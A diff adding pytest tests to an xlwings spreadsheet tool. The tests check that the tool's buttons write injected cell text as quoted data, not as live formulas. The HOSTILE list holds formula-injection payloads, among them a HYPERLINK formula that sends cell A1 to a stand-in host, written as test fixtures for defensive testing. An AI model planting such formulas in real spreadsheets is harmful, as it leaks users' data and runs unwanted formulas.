@@ -497,3 +497,54 @@ def test_status_bar_says_what_is_happening_and_is_cleared(demo_path, monkeypatch
     assert watched.bar[1:] == ["cseplan-xl: Working out RAG for 24 activities…",
                                "cseplan-xl: Evaluating and writing the dashboard…",
                                "cseplan-xl: Saving a snapshot to History…", False]
+
+
+# --- No formula the project did not build --------------------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+1+2", "-3+4", "@SUM(1,2)", "\t=1+2", "\r=1+3"]
+
+
+def _hostile_edits() -> dict[str, Any]:
+    """Injected text in the cells the buttons copy out: IDs (Validation, Dashboard, History), activities, owners,
+    themes, sections and a RAG value (which comes back in messages)."""
+    edits: dict[str, Any] = {}
+    for i, text in enumerate(HOSTILE):
+        row = 3 + i
+        edits[f"Plan!A{row}"] = text  # ID
+        edits[f"Plan!E{row}"] = text + " activity"  # Activity
+    edits["Plan!G3"] = HOSTILE[0]  # Who: an unknown owner, quoted in a finding's value and message
+    edits["Plan!D4"] = HOSTILE[3]  # Theme: a rollup key
+    edits["Plan!B5"] = HOSTILE[1]  # Section: a rollup key
+    edits["Plan!I6"] = HOSTILE[2]  # RAG: not a RAG value
+    return edits
+
+
+def _written_values(actions: list[dict[str, Any]]) -> list[Any]:
+    """Every value of every write, from xlwings' list of actions; any other kind of action fails the test until it
+    is looked at here."""
+    values = []
+    for action in actions:
+        if action["func"] == "setValues":
+            values += [v for row in action["values"] for v in row]
+        elif action["func"] not in ("alert", "rangeClearContents", "addSheet", "setStatusBar", "resetStatusBar"):
+            raise AssertionError(f"a write the test does not know: {action['func']} {action}")
+    return values
+
+
+@pytest.mark.parametrize("button", ["validate_plan", "refresh_dashboard"])
+def test_every_value_the_buttons_write_is_data_not_a_formula(demo_path, button):
+    book, actions = run(getattr(excel, button), demo_path, edit=_hostile_edits())
+    written = _written_values(actions)
+    texts = [v for v in written if isinstance(v, str)]
+    formulas = [v for v in texts if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # The only formulas are the links this project builds to a finding's own cell.
+    assert all(re.fullmatch(r'=HYPERLINK\("#[^"]*(""[^"]*)*","[^"]*(""[^"]*)*"\)', f) for f in formulas), formulas
+    if button == "validate_plan":
+        assert '=HYPERLINK("#Plan!G3","Plan!G3")' in formulas  # the link to the injected owner's cell
+    # Every injected text that was written at all is written as text.
+    for text in HOSTILE:
+        assert not any(v.startswith(text) for v in texts)
+    assert any(v.startswith("'" + HOSTILE[0]) for v in texts)
+    # An ID or activity is tidied as it is read (" \t=1+2" -> "=1+2"): still written as text.
+    assert any(v.startswith(("'\r=1+3", "'=1+3")) for v in texts)
+    assert any(v.startswith(("'\t=1+2", "'=1+2")) for v in texts)
